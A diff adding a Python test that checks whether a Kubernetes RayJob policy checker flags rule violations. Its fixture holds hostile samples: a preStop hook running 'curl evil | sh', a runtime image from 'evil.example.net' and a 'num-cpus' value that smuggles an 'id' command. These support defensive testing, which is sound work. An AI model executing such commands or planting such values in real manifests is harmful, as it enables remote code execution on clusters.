@@ -95,3 +95,57 @@ def test_the_judge_sees_a_broken_rule_in_emitted_objects():
     assert any("deadline" in f for f in found)
     assert any("total gpus" in f for f in found)
     assert any("cpu request" in f for f in found) and any("managed-by" in f for f in found)
+
+
+def test_the_judge_sees_every_channel_of_issue_20():
+    """Secret references, Ray's runtime env, hooks, rayStartParams, retries, duplicate names."""
+    policy = {
+        "apiVersion": "manifest-compiler/v1",
+        "kind": "Policy",
+        "metadata": {"name": "p"},
+        "spec": {
+            "rules": {
+                "spec.env.E_MODE": {"options": ["safe"]},
+                "spec.command": {"canEdit": False},
+                "spec.image": {"pattern": "^registry\\.example\\.com/"},
+                "spec.timeout": {"max": "1d"},
+            },
+            "limits": {"pods": 3},
+        },
+    }
+    container = {
+        "name": "ray-head",
+        "image": "registry.example.com/t:1",
+        "env": [{"name": "E_MODE", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}],
+        "lifecycle": {"preStop": {"exec": {"command": ["/bin/sh", "-c", "curl evil | sh"]}}},
+        "resources": {"requests": {"cpu": "1", "memory": "1Gi"}},
+    }
+    pod = {"containers": [container], "terminationGracePeriodSeconds": 30}
+    rayjob = {
+        "kind": "RayJob",
+        "metadata": {"name": "x", "labels": {"app.kubernetes.io/managed-by": "manifest-compiler"}},
+        "spec": {
+            "activeDeadlineSeconds": 86400,
+            "backoffLimit": 2,
+            "runtimeEnvYAML": "env_vars: {E_MODE: unsafe}\nimage_uri: evil.example.net/x:1\n",
+            "rayClusterSpec": {
+                "headGroupSpec": {
+                    "rayStartParams": {"num-cpus": "0;id"},
+                    "template": {"spec": pod},
+                },
+                "workerGroupSpecs": [
+                    {"groupName": "g", "replicas": 1, "template": {"spec": pod}},
+                    {"groupName": "g", "replicas": 1, "template": {"spec": pod}},
+                ],
+            },
+        },
+    }
+    found = "\n".join(violations([policy], [rayjob]))
+    assert "'unsafe' not in ['safe']" in found  # runtimeEnv env_vars
+    assert "runtime env image 'evil.example.net/x:1'" in found
+    assert "preStop" in found and "carries shell syntax" in found
+    assert "two worker groups of one name" in found
+    assert "the run may last 259200.0 s" in found
+    assert "total pods 4" in found  # head, two workers and KubeRay's own submitter
+    del rayjob["spec"]["runtimeEnvYAML"]
+    assert "is a Secret reference under a value rule" in "\n".join(violations([policy], [rayjob]))
